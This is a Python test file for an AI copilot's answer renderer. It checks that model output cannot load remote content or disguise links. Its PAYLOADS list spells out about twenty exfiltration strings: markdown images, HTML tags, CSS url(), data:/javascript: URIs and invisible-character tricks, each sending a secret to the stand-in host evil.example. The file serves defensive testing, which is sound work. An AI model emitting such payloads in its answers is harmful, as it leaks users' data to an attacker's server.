"""What an answer may carry out of the house: nothing that loads by itself, and no link that hides where it leads."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copilot.conversation import Item
from copilot.markdown import to_html
from copilot.render import Facts, item_html
from tests.copilot.provider import say
from tests.copilot.running import ask, kept_events

SECRET = "8949000000000073456"
PAYLOADS = [
    f"![a](https://evil.example/?q={SECRET})",
    f"![a][1]\n\n[1]: https://evil.example/?q={SECRET}",
    f"[![a](https://evil.example/{SECRET}.png)](https://evil.example)",
    f'<img src="https://evil.example/?q={SECRET}">',
    f"<IMG SRC=https://evil.example/?q={SECRET}>",
    f'<svg><image href="https://evil.example/?q={SECRET}"/></svg>',
    f'<link rel="stylesheet" href="https://evil.example/{SECRET}.css">',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{SECRET}">',
    f'<video poster="https://evil.example/{SECRET}"></video>',
    f'<form action="https://evil.example/{SECRET}"><button>x</button></form>',
    f"<div style=\"background:url('https://evil.example/{SECRET}')\">x</div>",
    f"![a](data:image/svg+xml,<svg onload=fetch('https://evil.example/{SECRET}')>)",
    f"[a](data:text/html,<script>fetch('https://evil.example/{SECRET}')</script>)",
    f"[a](JaVaScRiPt:fetch('https://evil.example/{SECRET}'))",
    f"[a](vbscript:x{SECRET})",
    f"[a](//evil.example/{SECRET})",
    f"<a href='https://evil.example/{SECRET}' ping='https://evil.example/{SECRET}'>x</a>",
    f"!\u200b[a](https://evil.example/?q={SECRET})",
    f"\\![a](https://evil.example/?q={SECRET})",
    f"<https://evil.example/?q={SECRET}>",
    f"[a][1]\n\n[1]: https://evil.example/?q={SECRET}",
    f"`![a](https://evil.example/?q={SECRET})`",
]
LOADS = re.compile(
    r"<(?!/?(?:p|br|strong|em|s|code|pre|ul|ol|li|blockquote|hr|a|h[3-6]|table|thead|tbody|tr|th|td)\b)[a-z]"
)


def attributes_of(html: str) -> set[str]:
    """The names of all attributes of all elements."""
    names: set[str] = set()
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: names.update(name for name, _ in attrs)  # type: ignore[method-assign]
    parser.feed(html)
    return names


@pytest.mark.parametrize("text", PAYLOADS)
def test_nothing_in_an_answer_loads_by_itself(text):
    html = to_html(text)
    assert not LOADS.search(html.lower()), html
    assert attributes_of(html) <= {"href", "rel", "start"}, html


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_link_goes_to_a_page_only_and_says_where(text):
    for address, words in re.findall(r'<a href="([^"]*)"[^>]*>(.*?)</a>', to_html(text)):
        assert address.startswith(("http://", "https://", "mailto:", "//"))
        assert address in words


def test_a_link_to_a_page_of_ours_needs_no_address():
    assert to_html("[the SIM](/sims/1234/)") == '<p><a href="/sims/1234/" rel="noopener nofollow">the SIM</a></p>\n'


@pytest.mark.parametrize(
    "mark", ["\u202e", "\u202d", "\u2066", "\u2067", "\u200b", "\u2060", "\ufeff", "\u200f", "\U000e0041"]
)
def test_marks_that_hide_or_turn_an_address_round_are_taken_out(mark):
    html = to_html(f"[https://bank.example{mark}](https://evil.example/{mark}x)")
    assert mark not in html
    assert "https://evil.example/" in html.split(">", 2)[2]


@given(st.text(alphabet=st.sampled_from("![]()<>\"'`\\ \n:/.aehtps=\u202e\u200b1"), max_size=120))
def test_no_mixture_of_signs_makes_something_that_loads(text):
    assert not LOADS.search(to_html(text).lower())


@pytest.mark.parametrize("text", PAYLOADS[:6])
def test_a_tool_s_arguments_and_result_are_shown_as_text(text):
    call = {"name": "x", "title": text, "arguments": text, "result": text, "summary": text, "state": "done"}
    html = item_html(Item("c1-1-0", "call", "1", call), Facts())
    assert "<img" not in html.lower() and "<image" not in html.lower() and "<iframe" not in html.lower()


async def test_an_answer_is_kept_as_it_was_said_and_shown_without_what_loads(actor, model):
    model.script("Say it as an image", say(PAYLOADS[0]))
    told = await ask(actor, "Say it as an image")
    kept = "".join(
        one.payload["delta"] for one in kept_events(actor, told) if one.payload["type"] == "TEXT_MESSAGE_CONTENT"
    )
    assert PAYLOADS[0] in kept and "<img" not in to_html(kept)


def test_the_page_itself_loads_from_here_only(client_for):
    policy = client_for().get("/").headers["Content-Security-Policy"]
    parts = dict(one.strip().partition(" ")[::2] for one in policy.split(";"))
    assert parts["img-src"] == "'self' data: blob:" and parts["connect-src"] == "'self'"
    assert parts["default-src"] == "'self'" and parts["form-action"] == "'self'"
